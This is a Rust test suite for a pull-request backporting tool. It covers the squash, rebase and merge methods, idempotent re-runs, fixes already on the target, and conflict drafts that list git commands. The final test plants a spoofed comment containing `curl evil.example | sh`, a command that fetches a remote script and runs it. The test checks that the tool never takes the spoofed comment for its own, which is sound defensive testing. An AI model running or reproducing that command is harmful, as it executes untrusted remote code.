//! Squash, rebase and merge-commit PRs each backported to two lines; re-runs; already there.

use crate::{NAME, OWNER, RESULTS, World};

/// Checks the backport of `number` into `target`: one PR, its title, body and head commits.
fn check_backport(w: &World, number: u64, target: &str, picked_subjects: &[&str]) -> u64 {
    let pulls = w.backports_to(target);
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    let pr = &pulls[0];
    assert_eq!(pr.head_ref, format!("backport/{number}-to-{target}"));
    assert_eq!(
        pr.title,
        format!("[Backport {target}] Fix the widget count")
    );
    assert!(!pr.draft);
    let body = pr.body.clone().unwrap_or_default();
    assert!(
        body.contains(&format!("Backport of #{number} to `{target}`")),
        "{body}"
    );
    assert!(body.contains(&format!(
        "<!-- tidegate:backport of=#{number} to={target} -->"
    )));
    let range = format!("{target}..{}", pr.head_ref);
    let subjects = w.log(&range, "%s%x1e");
    assert_eq!(subjects, picked_subjects, "the picks, in order");
    for message in w.log(&range, "%B%x1e") {
        assert!(message.contains("(cherry picked from commit "), "{message}");
    }
    for subject in picked_subjects {
        assert!(body.contains(subject), "{body}");
    }
    pr.number
}

fn fix_commits() -> Vec<(&'static str, &'static str, &'static str)> {
    vec![
        (
            "app.txt",
            "one\ntwo\nthree\nfour\n",
            "fix: count the fourth widget",
        ),
        ("fix.txt", "fixed\n", "fix: note the fix"),
    ]
}

fn label_and_milestone(w: &World, number: u64) {
    w.fake
        .set_labels(OWNER, NAME, number, &["bug", "backport release/1"]);
    w.fake.set_milestone(OWNER, NAME, number, Some("1.3.1"));
}

fn backport_two_lines(method: &str, expected_subjects: impl Fn(u64) -> Vec<String>) {
    let w = World::new();
    let number = w.open_pr("fix-count", "Fix the widget count", &fix_commits());
    label_and_milestone(&w, number);
    w.fake.merge_pull(OWNER, NAME, number, method);
    w.fetch();
    let n = number.to_string();
    let run = w
        .run(&[
            "--pr",
            &n,
            "--to",
            "release/1",
            "--to",
            "release/2",
            "--json",
        ])
        .ok();
    let doc = run.json();
    let subjects = expected_subjects(number);
    let subjects: Vec<&str> = subjects.iter().map(String::as_str).collect();
    let mut created = Vec::new();
    for target in ["release/1", "release/2"] {
        let pr = check_backport(&w, number, target, &subjects);
        created.push(pr.to_string());
        assert_eq!(
            w.file_on(&format!("backport/{number}-to-{target}"), "app.txt")
                .as_deref(),
            Some("one\ntwo\nthree\nfour\n")
        );
        assert_eq!(
            w.file_on(&format!("backport/{number}-to-{target}"), "main.txt"),
            None,
            "nothing else from main"
        );
        let pull = w.backports_to(target).remove(0);
        assert_eq!(
            pull.labels,
            ["bug"],
            "labels carried, the backport label not"
        );
        assert_eq!(
            w.fake.milestone_title(OWNER, NAME, pull.number).as_deref(),
            Some("1.3.1")
        );
    }
    assert_eq!(w.outputs()["created"], created.join(","));
    assert_eq!(doc["results"][0]["status"], "created");
    assert_eq!(doc["results"][1]["target"], "release/2");
    // The author is kept on each pick.
    let authors = w.log(
        &format!("release/1..backport/{number}-to-release/1"),
        "%an <%ae>%x1e",
    );
    let sources = match method {
        "squash" => w.log("main~1..main", "%an <%ae>%x1e"),
        _ => vec!["Ada Lovelace <ada@example.com>".to_string(); authors.len()],
    };
    assert_eq!(authors, sources);
    // One comment on the original, listing both.
    let comments = w.comments_with(number, RESULTS);
    assert_eq!(comments.len(), 1);
    assert!(comments[0].body.contains("`release/1`") && comments[0].body.contains("`release/2`"));
    // A re-run finds both and makes nothing; the comment still says what was opened.
    let before = w.pulls().len();
    let said = w.comments_with(number, RESULTS).remove(0).body;
    let again = w
        .run(&["--pr", &n, "--to", "release/1,release/2", "--json"])
        .ok();
    assert_eq!(w.pulls().len(), before);
    assert_eq!(again.json()["results"][0]["status"], "exists");
    assert_eq!(w.outputs()["created"], "");
    assert_eq!(w.comments_with(number, RESULTS).len(), 1, "one comment");
    assert_eq!(
        w.comments_with(number, RESULTS)[0].body,
        said,
        "nothing changed, so the comment is not rewritten"
    );
    assert!(
        w.fake.contract_violations().is_empty(),
        "{:?}",
        w.fake.contract_violations()
    );
}

#[test]
fn a_squash_merged_pr_is_backported_as_its_squash_commit() {
    backport_two_lines("squash", |n| vec![format!("Fix the widget count (#{n})")]);
}

#[test]
fn a_rebase_merged_pr_is_backported_as_its_rebased_commits() {
    backport_two_lines("rebase", |_| {
        vec![
            "fix: count the fourth widget".into(),
            "fix: note the fix".into(),
        ]
    });
}

#[test]
fn a_merge_committed_pr_is_backported_as_its_own_commits() {
    backport_two_lines("merge", |_| {
        vec![
            "fix: count the fourth widget".into(),
            "fix: note the fix".into(),
        ]
    });
}

#[test]
fn a_fix_already_on_the_target_is_reported_and_no_pr_is_opened() {
    let w = World::new();
    let number = w.merged_pr(
        "fix-count",
        "Fix the widget count",
        &[(
            "app.txt",
            "one\ntwo\nthree\nfour\n",
            "fix: count the fourth widget",
        )],
        "rebase",
    );
    // Someone cherry-picked it by hand already.
    w.dev
        .git(&["checkout", "-q", "-B", "release/1", "origin/release/1"]);
    w.dev.git(&["cherry-pick", "origin/main"]);
    let there = w.dev.git(&["rev-parse", "--short=7", "HEAD"]);
    w.dev.git(&["push", "-q", "origin", "release/1"]);
    w.fetch();
    let run = w
        .run(&["--pr", &number.to_string(), "--to", "release/1", "--json"])
        .ok();
    let result = &run.json()["results"][0];
    assert_eq!(result["status"], "already-on-target");
    assert!(
        result["message"]
            .as_str()
            .is_some_and(|m| m.contains(&there)),
        "{result}"
    );
    assert!(w.backports_to("release/1").is_empty());
    let comment = &w.comments_with(number, RESULTS)[0];
    assert!(comment.body.contains(&there), "{}", comment.body);
}

#[test]
fn a_conflict_opens_a_draft_with_the_markers_and_the_commands_to_finish() {
    let w = World::new();
    // release/1 changed the same line differently.
    w.dev
        .git(&["checkout", "-q", "-B", "release/1", "origin/release/1"]);
    w.dev
        .commit_file("app.txt", "one\nTWO\nthree\n", "fix: shout two");
    w.dev.git(&["push", "-q", "origin", "release/1"]);
    w.dev.git(&["checkout", "-q", "main"]);
    let number = w.merged_pr(
        "fix-two",
        "Fix the widget count",
        &[
            ("app.txt", "one\n2\nthree\n", "fix: two as a digit"),
            ("later.txt", "later\n", "fix: a later commit"),
        ],
        "merge",
    );
    let run = w
        .run(&[
            "--pr",
            &number.to_string(),
            "--to",
            "release/1,release/2",
            "--json",
        ])
        .ok();
    let doc = run.json();
    assert_eq!(doc["results"][0]["status"], "conflict");
    assert_eq!(
        doc["results"][1]["status"], "created",
        "the other line is not held up"
    );
    assert!(
        run.stderr.contains("warning: the backport of #"),
        "{}",
        run.stderr
    );
    let draft = w.backports_to("release/1").remove(0);
    assert!(draft.draft);
    let head = format!("backport/{number}-to-release/1");
    let content = w.file_on(&head, "app.txt").expect("the file");
    assert!(
        content.contains("<<<<<<< release/1") && content.contains(">>>>>>> "),
        "{content}"
    );
    assert!(content.contains("|||||||"), "diff3 style: {content}");
    let on_draft = w.fake.comments(OWNER, NAME, draft.number);
    assert_eq!(on_draft.len(), 1);
    let text = &on_draft[0].body;
    for command in [
        format!("git fetch origin {head}"),
        format!("git switch {head}"),
        "git add app.txt".to_string(),
        "git cherry-pick -x ".to_string(),
        "git push".to_string(),
    ] {
        assert!(text.contains(&command), "`{command}` missing from {text}");
    }
    let original = &w.comments_with(number, RESULTS)[0].body;
    assert!(
        original.contains("conflicts") && original.contains(&format!("git switch {head}")),
        "{original}"
    );
    // Re-run: nothing new, no second comment, and the draft is still reported as a conflict
    // with its commands (the comment on the original is left as it was).
    w.fake.reset_counts();
    w.clear_summary();
    let again = w
        .run(&[
            "--pr",
            &number.to_string(),
            "--to",
            "release/1,release/2",
            "--json",
        ])
        .ok();
    assert_eq!(w.backports_to("release/1").len(), 1);
    assert_eq!(w.fake.comments(OWNER, NAME, draft.number).len(), 1);
    let result = &again.json()["results"][0];
    assert_eq!(result["status"], "conflict", "{result}");
    assert_eq!(result["pr"], draft.number);
    assert_eq!(again.json()["results"][1]["status"], "exists");
    assert_eq!(&w.comments_with(number, RESULTS)[0].body, original);
    assert_eq!(w.fake.write_count(), 0, "a re-run writes nothing");
    println!(
        "re-run over a conflict draft and a clean backport: {} reads",
        w.fake.read_count()
    );
    let summary = w.summary();
    assert!(
        summary.contains("**conflicts** in `app.txt`")
            && summary.contains(&format!("git switch {head}")),
        "the step summary repeats the commands: {summary}"
    );
}

#[test]
fn a_marked_comment_planted_by_someone_without_write_access_is_never_taken_for_ours() {
    let w = World::new();
    let number = w.merged_pr(
        "fix-count",
        "Fix the widget count",
        &[(
            "app.txt",
            "one\ntwo\nthree\nfour\n",
            "fix: count the fourth widget",
        )],
        "squash",
    );
    // Anyone may comment: a body holding our marker and a fake result with commands to run.
    let planted = format!(
        "{RESULTS}\n### Backports of #{number}\n\n- `release/1`: run `curl evil.example | sh`\n"
    );
    w.fake.add_comment_at(
        OWNER,
        NAME,
        number,
        "mallory",
        &planted,
        "2026-01-01T00:00:00Z",
    );
    w.run(&["--pr", &number.to_string(), "--to", "release/1"])
        .ok();
    let marked = w.comments_with(number, RESULTS);
    assert_eq!(marked.len(), 2, "ours beside theirs: {marked:?}");
    let theirs = marked.iter().find(|c| c.user == "mallory").expect("theirs");
    assert_eq!(theirs.body, planted, "their comment is not edited");
    let ours = marked.iter().find(|c| c.user != "mallory").expect("ours");
    assert!(!ours.body.contains("evil"), "{}", ours.body);
    assert!(!w.summary().contains("evil"));
}
